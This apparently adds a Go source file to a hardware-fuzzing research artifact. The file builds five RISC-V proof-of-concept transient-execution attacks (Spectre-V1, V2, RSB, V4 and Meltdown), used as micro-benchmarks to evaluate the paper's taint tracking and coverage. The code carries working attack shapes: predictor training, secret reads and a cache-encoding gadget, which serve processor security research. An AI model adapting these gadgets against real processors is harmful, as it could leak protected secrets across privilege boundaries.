@@ -1,0 +1,237 @@
+// Package experiments regenerates every table and figure of the paper's
+// evaluation section: Table 2 (core summary), Table 3 (training overhead),
+// Table 4 (IFT overhead), Figure 6 (taint traces), Figure 7 (coverage
+// growth), Table 5 (bugs found) and the §6.3 liveness evaluation.
+package experiments
+
+import (
+	"fmt"
+
+	"dejavuzz/internal/isa"
+	"dejavuzz/internal/swapmem"
+)
+
+// PoC is one hand-written transient-execution attack proof of concept, used
+// by the Table 4 and Figure 6 micro-benchmarks.
+type PoC struct {
+	Name     string
+	Schedule *swapmem.Schedule
+	WindowLo uint64
+	WindowHi uint64
+}
+
+const pocTrigOff = 16 // trigger lands at SwapBase + 64
+
+func pocTrigPC() uint64 { return swapmem.SwapBase + 4*pocTrigOff }
+
+func mustPacket(name string, kind swapmem.PacketKind, src string) *swapmem.Packet {
+	img := isa.MustAsm(swapmem.SwapBase, src)
+	return &swapmem.Packet{Name: name, Kind: kind, Image: img, Entry: swapmem.SwapBase}
+}
+
+// words measures a fragment's instruction count.
+func words(src string) int {
+	return len(isa.MustAsm(swapmem.SwapBase, src).Words)
+}
+
+// aligned concatenates setup + padding + rest so that the first instruction
+// of rest lands exactly at pocTrigPC. Training packets fall through the
+// padding nops into the trigger address.
+func aligned(setup, rest string) string {
+	return setup + pad(pocTrigOff-words(setup)) + rest
+}
+
+// alignedJump is aligned with a `j trig` emitted after the setup, for
+// transient packets that skip their padding.
+func alignedJump(setup, rest string) string {
+	return setup + "j trig\n" + pad(pocTrigOff-words(setup)-1) + rest
+}
+
+func pad(n int) string {
+	s := ""
+	for i := 0; i < n; i++ {
+		s += "nop\n"
+	}
+	return s
+}
+
+// encodeBlock is the canonical dcache secret-encode gadget.
+func encodeSrc() string {
+	return fmt.Sprintf(`
+		andi s1, s0, 0x3f
+		slli s1, s1, 6
+		li t1, %#x
+		add t1, t1, s1
+		ld t2, 0(t1)
+	`, swapmem.DataBase+0x1000)
+}
+
+func secretAccessSrc() string {
+	return fmt.Sprintf("li t0, %#x\nld s0, 0(t0)\n", uint64(swapmem.SecretAddr))
+}
+
+// SpectreV1 builds the classic bounds-check-bypass shape: a branch trained
+// taken whose transient taken-path reads and encodes the secret.
+func SpectreV1() PoC {
+	T := pocTrigPC()
+	warm := mustPacket("warm-secret", swapmem.PacketWindowTrain, secretAccessSrc()+"ecall")
+	train := mustPacket("v1-train", swapmem.PacketTriggerTrain, aligned(`
+		li a3, 3
+	`, `
+	trig:
+		beq zero, zero, win
+		ecall
+	win:
+		addi a3, a3, -1
+		bnez a3, trig
+		ecall
+	`))
+	transient := mustPacket("v1-transient", swapmem.PacketTransient, alignedJump(`
+		li a0, 36
+		li a1, 3
+		div a0, a0, a1
+		div a0, a0, a1
+	`, `
+	trig:
+		beq a0, a1, win
+		ecall
+	win:
+	`+secretAccessSrc()+encodeSrc()+`
+		ecall
+	`))
+	sched := &swapmem.Schedule{}
+	sched.Append(warm)
+	sched.Append(train)
+	sched.Append(transient)
+	return PoC{Name: "Spectre-V1", Schedule: sched, WindowLo: T + 8, WindowHi: T + 8 + 4*16}
+}
+
+// SpectreV2 trains the indirect-jump target predictor cross-"context":
+// the training packet steers the jalr at the trigger address to the window.
+func SpectreV2() PoC {
+	T := pocTrigPC()
+	warm := mustPacket("warm-secret", swapmem.PacketWindowTrain, secretAccessSrc()+"ecall")
+	win := T + 8
+	train := mustPacket("v2-train", swapmem.PacketTriggerTrain, aligned(fmt.Sprintf(`
+		li a2, %#x
+		li a3, 3
+	`, win), `
+	trig:
+		jalr x0, 0(a2)
+		ecall
+	win:
+		addi a3, a3, -1
+		bnez a3, trig
+		ecall
+	`))
+	transient := mustPacket("v2-transient", swapmem.PacketTransient, alignedJump(fmt.Sprintf(`
+		li a0, %d
+		li a1, 3
+		div a0, a0, a1
+		div a0, a0, a1
+	`, (T+4)*9), `
+	trig:
+		jalr x0, 0(a0)
+		ecall
+	win:
+	`+secretAccessSrc()+encodeSrc()+`
+		ecall
+	`))
+	sched := &swapmem.Schedule{}
+	sched.Append(warm)
+	sched.Append(train)
+	sched.Append(transient)
+	return PoC{Name: "Spectre-V2", Schedule: sched, WindowLo: win, WindowHi: win + 4*16}
+}
+
+// SpectreRSB corrupts the return address stack: the training packet's call
+// pushes the window address, the transient packet's ret pops it.
+func SpectreRSB() PoC {
+	T := pocTrigPC()
+	warm := mustPacket("warm-secret", swapmem.PacketWindowTrain, secretAccessSrc()+"ecall")
+	win := T + 8
+	train := mustPacket("rsb-train", swapmem.PacketTriggerTrain,
+		aligned("", fmt.Sprintf(`
+	trig:
+		call %#x
+	`, uint64(swapmem.SwapDoneAddr))))
+	transient := mustPacket("rsb-transient", swapmem.PacketTransient, alignedJump(fmt.Sprintf(`
+		li a0, %d
+		li a1, 3
+		div a0, a0, a1
+		div a0, a0, a1
+		mv ra, a0
+	`, (T+4)*9), `
+	trig:
+		ret
+		ecall
+	win:
+	`+secretAccessSrc()+encodeSrc()+`
+		ecall
+	`))
+	sched := &swapmem.Schedule{}
+	sched.Append(warm)
+	sched.Append(train)
+	sched.Append(transient)
+	return PoC{Name: "Spectre-RSB", Schedule: sched, WindowLo: win, WindowHi: win + 4*16}
+}
+
+// SpectreV4 bypasses a store with an unresolved address: the speculative
+// load reads the stale secret pointer.
+func SpectreV4() PoC {
+	T := pocTrigPC()
+	ptr := uint64(swapmem.DataBase + 0x300)
+	safe := uint64(swapmem.DataBase + 0x400)
+	// Window training: warm the pointer slot and the secret line so the
+	// speculative loads complete inside the disambiguation window.
+	warm := mustPacket("v4-warm", swapmem.PacketWindowTrain, fmt.Sprintf(`
+		li t0, %#x
+		ld a1, 0(t0)
+	`, ptr)+secretAccessSrc()+"ecall")
+	transient := mustPacket("v4-transient", swapmem.PacketTransient, alignedJump(fmt.Sprintf(`
+		li a2, %#x
+		li a3, %#x
+		sd a3, 0(a2)
+		li a4, %#x
+		li t3, %#x
+		li t4, 3
+		div t3, t3, t4
+		div t3, t3, t4
+	`, ptr, uint64(swapmem.SecretAddr), safe, ptr*9), `
+	trig:
+		sd a4, 0(t3)
+		ld t1, 0(a2)
+		ld s0, 0(t1)
+	`+encodeSrc()+`
+		ecall
+	`))
+	sched := &swapmem.Schedule{}
+	sched.Append(warm)
+	sched.Append(transient)
+	return PoC{Name: "Spectre-V4", Schedule: sched, WindowLo: T + 4, WindowHi: T + 4 + 4*16}
+}
+
+// Meltdown reads a permission-protected secret whose data is transiently
+// forwarded despite the fault.
+func Meltdown() PoC {
+	T := pocTrigPC()
+	warm := mustPacket("meltdown-warm", swapmem.PacketWindowTrain, secretAccessSrc()+"ecall")
+	transient := mustPacket("meltdown-transient", swapmem.PacketTransient, alignedJump(fmt.Sprintf(`
+		li t6, %#x
+	`, uint64(swapmem.SecretAddr)), `
+	trig:
+		ld s0, 0(t6)
+	`+encodeSrc()+`
+		ecall
+	`))
+	sched := &swapmem.Schedule{}
+	sched.Append(warm)
+	sched.AppendWithPerm(transient, swapmem.PermUpdate{Region: "dedicated", Perm: 0})
+	return PoC{Name: "Meltdown", Schedule: sched, WindowLo: T + 4, WindowHi: T + 4 + 4*16}
+}
+
+// AllPoCs returns the five micro-benchmark attacks in the paper's Table 4
+// order.
+func AllPoCs() []PoC {
+	return []PoC{SpectreV1(), SpectreV2(), Meltdown(), SpectreV4(), SpectreRSB()}
+}
